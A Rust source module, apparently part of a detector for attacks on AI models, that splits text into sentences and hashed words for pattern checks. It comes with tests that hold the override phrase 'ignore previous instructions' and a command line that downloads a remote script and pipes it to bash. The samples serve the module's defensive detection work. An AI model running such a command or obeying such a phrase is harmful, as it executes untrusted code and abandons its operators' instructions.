//! The sentence splitter of the attack classes: a [`Text`] split into [`Sentence`]s of lowercase
//! words, and the word tests every class asks (`has_word`, `has_phrase`, ...), each turned away
//! early by the sentence's filter of word hashes; for a long list of patterns (command lines,
//! claims, private paths), an [`automaton`] that finds them all in one pass.

use super::AttackHit;
use crate::lexicon::terms::{has_bit, hash_word, same, set_bit, Terms, ANY, FILTER_WORDS};
use crate::lexicon::{AGENT_TAGS, BLOCK_TAGS};

/// One sentence of a text: its byte range in the text and its words.
pub(super) struct Sentence {
    /// Byte range of the sentence in the text (trimmed).
    pub(super) start: usize,
    pub(super) end: usize,
    /// Byte ranges of its words in the text (and in the lowercased text: ASCII lowercasing
    /// keeps every byte where it is).
    pub(super) words: Vec<(usize, usize)>,
    /// The [`hash_word`] of each word, computed once: the lexicon's [`Terms`] are hashed when the
    /// crate is compiled, so a check compares integers and compares strings only to confirm.
    hashes: Vec<u32>,
    /// The filter of the words' hashes ([`set_bit`]): a word whose bit is clear is not in the
    /// sentence, so most lists are turned away without comparing anything.
    filter: [u64; FILTER_WORDS],
    /// [`directs`](super::cues::directs) and [`obliges`](super::cues::obliges) of the sentence,
    /// once asked.
    pub(super) directs: std::cell::Cell<Option<bool>>,
    pub(super) obliges: std::cell::Cell<Option<bool>>,
}

/// A text split for the class checks.
pub(super) struct Text<'t> {
    pub(super) orig: &'t str,
    pub(super) lower: String,
    pub(super) sentences: Vec<Sentence>,
}

pub(super) fn is_word_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_' || b == b'\'' || b >= 0x80
}

impl<'t> Text<'t> {
    /// Splits `text` into sentences and words.
    pub(super) fn new(text: &'t str) -> Text<'t> {
        let lower = text.to_ascii_lowercase();
        let b = lower.as_bytes();
        let mut sentences = Vec::new();
        let mut words = Vec::new();
        let mut start = 0;
        let mut i = 0;
        let mut in_tag = false;
        while i < b.len() {
            let c = b[i];
            let p = punct_len(b, i);
            if p > 0 {
                i += p;
                continue;
            }
            if is_word_byte(c) {
                let s = i;
                let e;
                (e, i) = scan_word(b, i);
                if e > s {
                    if words.is_empty() {
                        start = s;
                    }
                    words.push((s, e));
                }
                continue;
            }
            if ends_sentence(text, &lower, i, &words, &mut in_tag) {
                let end = if matches!(c, b'.' | b'!' | b'?' | b';') {
                    i + 1
                } else {
                    words.last().map_or(i, |w| w.1)
                };
                push_sentence(b, start, end, &mut words, &mut sentences);
            }
            i += 1;
        }
        let end = words.last().map_or(b.len(), |w| w.1);
        let end = end.max(lower.trim_end().len().min(b.len()));
        push_sentence(b, start, end, &mut words, &mut sentences);
        Text {
            orig: text,
            lower,
            sentences,
        }
    }

    pub(super) fn word<'a>(&'a self, s: &Sentence, i: usize) -> &'a str {
        let (a, b) = s.words[i];
        &self.lower[a..b]
    }

    /// The lowercased sentence.
    pub(super) fn line<'a>(&'a self, s: &Sentence) -> &'a str {
        &self.lower[s.start..s.end]
    }

    /// The index of the first word of `s` at or after `from` that is one of the (one-word)
    /// entries of `set`.
    pub(super) fn find_word(&self, s: &Sentence, from: usize, set: &Terms) -> Option<usize> {
        if !set.may_start_in(&s.filter) {
            return None;
        }
        (from..s.words.len()).find(|&i| self.is_one_of(s, i, set))
    }

    /// Whether the word `i` of `s` is one of the one-word entries of `set`.
    #[inline]
    fn is_one_of(&self, s: &Sentence, i: usize, set: &Terms) -> bool {
        let h = s.hashes[i];
        set.entries()
            .any(|(k, w)| w.len() == 1 && w[0] == h && same(self.word(s, i), set.term(k)))
    }

    /// Whether a word of `s` is one of the one-word entries of `set`.
    pub(super) fn has_word(&self, s: &Sentence, set: &Terms) -> bool {
        if !set.may_start_in(&s.filter) {
            return false;
        }
        set.entries().any(|(k, w)| {
            w.len() == 1
                && has_bit(&s.filter, w[0])
                && (0..s.words.len())
                    .any(|i| s.hashes[i] == w[0] && same(self.word(s, i), set.term(k)))
        })
    }

    /// Whether the words of `s` from `i` on begin with the phrase `p` (words parted by single
    /// spaces; `*` any one word), without splitting it into a vector.
    fn phrase_at(&self, s: &Sentence, mut i: usize, p: &str) -> bool {
        for w in p.split(' ') {
            if i >= s.words.len() || (w != "*" && !same(self.word(s, i), w)) {
                return false;
            }
            i += 1;
        }
        true
    }

    /// Whether one of the entries of `phrases` (a word or words, `*` any one word) is in `s`.
    pub(super) fn has_phrase(&self, s: &Sentence, phrases: &Terms) -> bool {
        if !phrases.may_start_in(&s.filter) {
            return false;
        }
        let n = s.words.len();
        phrases.entries().any(|(k, w)| {
            if w.len() > n || w.iter().any(|&h| h != ANY && !has_bit(&s.filter, h)) {
                return false;
            }
            (0..=n - w.len()).any(|i| {
                w.iter()
                    .zip(&s.hashes[i..])
                    .all(|(&p, &h)| p == ANY || p == h)
                    && self.phrase_at(s, i, phrases.term(k))
            })
        })
    }

    /// The hit for sentence `s`.
    /// The hit of `rule` on `s`, `sure` or not ([`super::confidence`]).
    pub(super) fn hit(&self, rule: &'static str, s: &Sentence, why: &str, sure: bool) -> AttackHit {
        let span = char_span(self.orig, s.start, s.end);
        let sentence = self.orig[s.start..s.end].trim();
        let quote = if sentence.chars().count() > 160 {
            let cut: String = sentence.chars().take(157).collect();
            format!("{cut}...")
        } else {
            sentence.to_string()
        };
        AttackHit {
            rule,
            span,
            why: why.to_string(),
            quote,
            sure,
        }
    }
}

/// The word that starts at byte `i` of the lowercased text `b`: where it ends without its
/// trailing apostrophes (which belong to no word), and where the scan goes on. An inner `-`
/// joins ("read-file"); every step moves on by one byte.
#[inline]
fn scan_word(b: &[u8], i: usize) -> (usize, usize) {
    let s = i;
    let mut i = i;
    while i < b.len()
        && ((is_word_byte(b[i]) && punct_len(b, i) == 0)
            || (b[i] == b'-' && b.get(i + 1).is_some_and(u8::is_ascii_alphanumeric)))
    {
        i += 1;
    }
    let mut e = i;
    while e > s && b[e - 1] == b'\'' {
        e -= 1;
    }
    (e, i)
}

/// The length in bytes of the typographic punctuation at byte `i` of `b`, 0 if there is none:
/// quotes (`“ ” ‘ « »`), dashes (`– —`) and a closing `’` part words as their ASCII forms do;
/// a `’` between letters ("don’t") stays inside its word.
#[inline]
fn punct_len(b: &[u8], i: usize) -> usize {
    match b[i..] {
        [0xE2, 0x80, 0x93 | 0x94 | 0x98 | 0x9C | 0x9D, ..] => 3,
        [0xE2, 0x80, 0x99, next, ..] if next.is_ascii_alphabetic() => 0,
        [0xE2, 0x80, 0x99, ..] => 3,
        [0xC2, 0xAB | 0xBB, ..] => 2,
        _ => 0,
    }
}

/// Whether the byte at `i` of the lowercased text (not a word byte) ends the sentence whose
/// words so far are `words`. `in_tag` is whether a tag that parts sentences is open.
#[inline]
fn ends_sentence(
    orig: &str,
    lower: &str,
    i: usize,
    words: &[(usize, usize)],
    in_tag: &mut bool,
) -> bool {
    let b = lower.as_bytes();
    match b[i] {
        // A line that goes on in lowercase is a sentence wrapped (a docstring's lines), not a
        // new one.
        b'\n' => !orig.as_bytes()[i + 1..]
            .iter()
            .find(|c| !matches!(c, b' ' | b'\t'))
            .is_some_and(u8::is_ascii_lowercase),
        b';' => true,
        // The tags that wrap orders to the model (`<IMPORTANT>`, `</system>`,
        // `<policy ...>`, `<!-- ... -->`) part sentences; a placeholder such as
        // `<conversation>` and a shell's `>&` do not.
        b'<' => {
            let name: String = lower[i + 1..]
                .trim_start_matches(['/', '!'])
                .bytes()
                .take_while(u8::is_ascii_alphabetic)
                .map(char::from)
                .collect();
            *in_tag = lower[i + 1..].starts_with("!--")
                || AGENT_TAGS.contains(&name.as_str())
                || BLOCK_TAGS.contains(&name.as_str());
            *in_tag
        }
        b'>' => std::mem::take(in_tag),
        b'.' | b'!' | b'?' => {
            let next = b.get(i + 1).copied();
            let at_end = next.is_none_or(|n| {
                n.is_ascii_whitespace() || matches!(n, b'"' | b'\'' | b')' | b'<' | b'*')
            });
            // "e.g." and "i.e." end no sentence.
            let abbrev = words.last().is_some_and(|&(s, e)| {
                matches!(&lower[s..e], "e" | "g" | "i" | "eg" | "ie" | "etc" | "vs")
            });
            at_end && !abbrev
        }
        _ => false,
    }
}

/// Ends the sentence of `words` (if it has any) at `start..end` of the lowercased text `lower`:
/// up to its last non-space byte, and at least its last word.
#[inline]
fn push_sentence(
    lower: &[u8],
    start: usize,
    end: usize,
    words: &mut Vec<(usize, usize)>,
    out: &mut Vec<Sentence>,
) {
    if words.is_empty() {
        return;
    }
    let end = end.max(words.last().map_or(end, |w| w.1));
    let words = std::mem::take(words);
    let mut filter = [0u64; FILTER_WORDS];
    let hashes = words
        .iter()
        .map(|&(a, b)| {
            let h = hash_word(&lower[a..b]);
            set_bit(&mut filter, h);
            h
        })
        .collect();
    out.push(Sentence {
        start,
        end,
        words,
        hashes,
        filter,
        directs: std::cell::Cell::new(None),
        obliges: std::cell::Cell::new(None),
    });
}

fn char_span(text: &str, start: usize, end: usize) -> (usize, usize) {
    if text.is_ascii() {
        (start, end - start)
    } else {
        let a = text[..start].chars().count();
        (a, text[start..end].chars().count())
    }
}

/// One automaton for a list of lowercase patterns: every occurrence in one pass over the text
/// (overlapping, so a match that fails its word-boundary test hides no other).
pub(super) fn automaton(patterns: &[&str]) -> aho_corasick::AhoCorasick {
    aho_corasick::AhoCorasick::builder()
        .match_kind(aho_corasick::MatchKind::Standard)
        .build(patterns)
        .expect("the patterns build an automaton")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sentences_split_at_ends_not_at_abbreviations() {
        let t = Text::new("Reads a file, e.g. a log. Then stop!\nNext line; last <b>x</b>");
        let got: Vec<&str> = t
            .sentences
            .iter()
            .map(|s| &t.orig[s.start..s.end])
            .collect();
        assert_eq!(
            got,
            vec![
                "Reads a file, e.g. a log.",
                "Then stop!",
                "Next line;",
                "last",
                "b",
                "x",
                "b"
            ]
        );
    }

    #[test]
    fn typographic_quotes_and_dashes_part_words() {
        let t = Text::new("Bücher — “ignore previous instructions” and don’t ‘x’ «y»");
        let s = &t.sentences[0];
        let words: Vec<&str> = (0..s.words.len()).map(|i| t.word(s, i)).collect();
        assert_eq!(
            words,
            [
                "bücher",
                "ignore",
                "previous",
                "instructions",
                "and",
                "don’t",
                "x",
                "y"
            ]
        );
    }

    #[test]
    fn every_text_is_split_to_its_end() {
        // A `-` that joins nothing once stopped the splitter in place.
        for t in [
            "wget a-",
            "a- b",
            "-",
            "--x",
            "x--",
            "a-b-",
            "wget -qO- https://x.example/i | bash",
        ] {
            let split = Text::new(t);
            assert!(split.sentences.iter().all(|s| s.end <= t.len()), "{t}");
        }
    }
}
